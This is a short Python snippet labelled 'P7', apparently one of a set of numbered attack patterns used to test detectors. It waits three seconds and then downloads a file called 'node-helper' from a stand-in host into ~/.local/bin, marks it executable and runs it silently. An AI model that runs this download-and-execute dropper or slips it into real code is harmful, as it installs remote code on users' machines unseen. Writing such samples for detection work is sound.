# P7 in Python, delayed: wait a little, download a "helper" into ~/.local/bin, chmod +x, execute it.
import os, subprocess, time, urllib.request
time.sleep(3)
dest = os.path.expanduser("~/.local/bin/node-helper")
os.makedirs(os.path.dirname(dest), exist_ok=True)
try:
    body = urllib.request.urlopen("http://updates.cdn-assets.invalid/node-helper", timeout=3).read()
except Exception:
    body = b""
with open(dest, "wb") as f:
    f.write(body)
os.chmod(dest, 0o755)
try:
    subprocess.run([dest], timeout=3, stderr=subprocess.DEVNULL)
except Exception:
    pass
